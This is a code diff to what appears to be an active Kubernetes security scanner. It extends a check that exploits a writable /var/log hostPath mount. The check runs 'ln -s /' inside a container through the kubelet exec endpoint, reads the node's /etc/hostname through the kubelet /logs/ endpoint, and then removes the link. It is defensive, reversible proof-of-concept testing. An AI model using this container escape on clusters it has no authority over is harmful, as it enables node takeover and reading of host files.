@@ -1,26 +1,58 @@
 import { posix } from 'node:path';
+import type { Pod } from 'kubernetes-types/core/v1.js';
 import { refusal } from '../../active/send.js';
 import { excerpt } from '../../active/toolkit.js';
 import { defineHunter } from '../../core/hunter.js';
-import { type KubeletPod, kubeletPods, kubeletTarget, perKubelet, runUrl } from './active-pods.js';
+import {
+  containerName,
+  type KubeletContainer,
+  kubeletPods,
+  kubeletTarget,
+  perKubelet,
+  runningContainers,
+  runUrl,
+} from './active-pods.js';
+import { writableVarLogMounts } from './pod-list.js';
 
 /** The host file read through the link: harmless, and different on every node. */
 const PROOF_FILE = 'etc/hostname';
 
-/** A running container that mounts the host's /var/log writable, and where. */
-export function varLogMount(pods: KubeletPod[]): { pod: KubeletPod; container: string; mountPath: string } | undefined {
-  for (const pod of pods.filter((p) => p.running)) {
-    const volumes = new Set(
-      pod.volumes
-        .filter((v) => v.hostPath && posix.normalize(v.hostPath).replace(/\/$/, '') === '/var/log')
-        .map((v) => v.name),
-    );
-    for (const container of pod.containers) {
-      const mount = pod.mounts[container]?.find((m) => volumes.has(m.volume) && !m.readOnly);
-      if (mount) return { pod, container, mountPath: posix.normalize(mount.mountPath).replace(/\/$/, '') };
+/** Where the escape's link goes: a running container with a writable mount that reaches the node's /var/log. */
+export interface VarLogEscape {
+  at: KubeletContainer;
+  /** The host path the container mounts: /var/log, a directory below it, or /var or / above it. */
+  hostPath: string;
+  /** Where the container mounts it. */
+  mountPath: string;
+  /** The directory inside the container that is the node's /var/log or a directory under it. */
+  linkDir: string;
+  /** That directory as the kubelet's /logs/ serves it ('' for /var/log itself). */
+  logsDir: string;
+}
+
+const VAR_LOG = '/var/log';
+const trimmed = (path: string) => posix.normalize(path).replace(/(.)\/$/, '$1');
+
+/**
+ * The first running container whose writable mount reaches the node's /var/log (the same mounts the passive
+ * KF-KUBELET-014 reports), preferring a mount of /var/log itself, then one below it, then /var or /.
+ */
+export function varLogEscape(pods: readonly Pod[]): VarLogEscape | undefined {
+  const found: [rank: number, escape: VarLogEscape][] = [];
+  for (const at of runningContainers(pods)) {
+    for (const m of writableVarLogMounts(at.spec).filter((w) => w.container === at.container)) {
+      const hostPath = trimmed(m.hostPath);
+      const mountPath = trimmed(m.mountPath);
+      if (hostPath === VAR_LOG || hostPath.startsWith(`${VAR_LOG}/`)) {
+        const logsDir = hostPath.slice(VAR_LOG.length + 1);
+        found.push([logsDir ? 1 : 0, { at, hostPath, mountPath, linkDir: mountPath, logsDir }]);
+      } else {
+        const linkDir = posix.join(mountPath, posix.relative(hostPath, VAR_LOG));
+        found.push([2, { at, hostPath, mountPath, linkDir, logsDir: '' }]);
+      }
     }
   }
-  return undefined;
+  return found.sort((a, b) => a[0] - b[0])[0]?.[1];
 }
 
 /**
@@ -40,29 +72,30 @@ export const kubeletActiveVarLogEscape = defineHunter({
   subject: perKubelet,
   reports: ['KF-KUBELET-104'],
   changes:
-    'creates the symlink /var/log/kubeferret-<run id> → / on the node through a pod mounting /var/log, reads /etc/hostname through it, removes it',
+    'creates the symlink /var/log/kubeferret-<run id> → / on the node through a pod mounting /var/log (or /var, /, a directory under /var/log), reads /etc/hostname through it, removes it',
   async hunt(finding, ctx) {
     const target = kubeletTarget(ctx, finding);
     if (!target) return;
-    const found = varLogMount((await kubeletPods(ctx, target)) ?? []);
+    const found = varLogEscape((await kubeletPods(ctx, target)) ?? []);
     if (!found) {
-      ctx.log('no running container mounts the host /var/log writable');
+      ctx.log('no running container mounts the host /var/log (or a directory above or below it) writable');
       return;
     }
-    const { pod, container, mountPath } = found;
+    const { at, hostPath, mountPath, linkDir, logsDir } = found;
     const linkName = `kubeferret-${ctx.runId}`;
-    const link = `${mountPath}/${linkName}`;
-    const where = `${pod.namespace}/${pod.name}/${container}`;
-    const url = runUrl(target.base, pod, container, `ln -s / ${link}`);
+    const link = `${linkDir}/${linkName}`;
+    const onNode = posix.join(VAR_LOG, logsDir, linkName);
+    const where = containerName(at);
+    const url = runUrl(target.base, at, `ln -s / ${link}`);
     const made = await ctx.change({
-      action: `create symlink /var/log/${linkName} → / on the node (via ${where})`,
+      action: `create symlink ${onNode} → / on the node (via ${where})`,
       target: url,
       identity: target.identity,
       apply: { method: 'POST', url },
       undo: {
         method: 'POST',
-        url: runUrl(target.base, pod, container, `rm -f ${link}`),
-        description: `remove symlink /var/log/${linkName} on the node (via ${where})`,
+        url: runUrl(target.base, at, `rm -f ${link}`),
+        description: `remove symlink ${onNode} on the node (via ${where})`,
         // 404 means the pod is gone, not the link: it is not undone then.
         goneStatuses: [],
       },
@@ -71,7 +104,7 @@ export const kubeletActiveVarLogEscape = defineHunter({
       if (made.response) ctx.log(`ln -s in ${where}: ${refusal(made.response)}`);
       return;
     }
-    const path = `/logs/${linkName}/${PROOF_FILE}`;
+    const path = `/logs/${logsDir ? `${logsDir}/` : ''}${linkName}/${PROOF_FILE}`;
     const read = await ctx.net.http({ url: `${target.base}${path}`, credential: target.secret });
     const removed = await made.undo();
     if (read.status !== 200) {
@@ -80,7 +113,7 @@ export const kubeletActiveVarLogEscape = defineHunter({
     }
     const weakness = ctx.known(
       'Finding',
-      (f) => f.kb === 'KF-KUBELET-014' && f.host === target.host && f.object === `pod ${pod.namespace}/${pod.name}`,
+      (f) => f.kb === 'KF-KUBELET-014' && f.host === target.host && f.object === `pod ${at.namespace}/${at.pod}`,
     );
     ctx.report(
       {
@@ -88,9 +121,9 @@ export const kubeletActiveVarLogEscape = defineHunter({
         host: target.host,
         port: target.port,
         path,
-        object: `pod ${pod.namespace}/${pod.name}`,
+        object: `pod ${at.namespace}/${at.pod}`,
         identity: target.identity.name,
-        evidence: `linked /var/log/${linkName} → / through ${where} (mounts the host /var/log at ${mountPath}) and read the node's /${PROOF_FILE}: "${excerpt(read.text(), 80)}"; link ${removed.state === 'undone' ? 'removed' : 'NOT removed'}`,
+        evidence: `linked ${onNode} → / through ${where} (mounts the host ${hostPath} at ${mountPath}) and read the node's /${PROOF_FILE}: "${excerpt(read.text(), 80)}"; link ${removed.state === 'undone' ? 'removed' : 'NOT removed'}`,
         proof: true,
       },
       [finding.id, ...weakness.map((f) => f.id)],
